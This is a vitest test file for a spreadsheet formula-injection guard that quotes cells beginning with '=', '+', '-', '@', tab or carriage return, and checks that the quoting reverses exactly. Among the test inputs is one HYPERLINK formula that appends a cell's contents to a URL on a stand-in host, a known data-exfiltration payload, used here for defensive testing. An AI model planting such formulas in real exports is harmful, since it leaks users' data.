import { describe, expect, it } from 'vitest';
import { neutralizeCell, restoreCell } from './formula-guard.ts';

describe('formula guard (OWASP CSV injection)', () => {
  it('quotes every text a spreadsheet program would evaluate', () => {
    for (const text of ['=1+1', '+41 79 555 0101', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("http://x/?"&A1,"x")']) {
      expect(neutralizeCell(text)).toBe(`'${text}`);
    }
    for (const text of ['', 'Laptop', "'", "'abc", 'A=1', ' =1', '1-2']) expect(neutralizeCell(text)).toBe(text);
  });

  it('reads back every text exactly as it was before quoting', () => {
    const texts = ['', "'", "''", "'''", "'=x", "''=x", '=x', '-', "'-", "'abc", 'abc', '@', "'@a", '\t', "'\t", '=', "'a'=b"];
    for (const text of texts) expect(restoreCell(neutralizeCell(text))).toBe(text);
    // A quoted cell never starts with a trigger.
    for (const text of texts) expect(['=', '+', '-', '@', '\t', '\r']).not.toContain(neutralizeCell(text)[0]);
  });
});
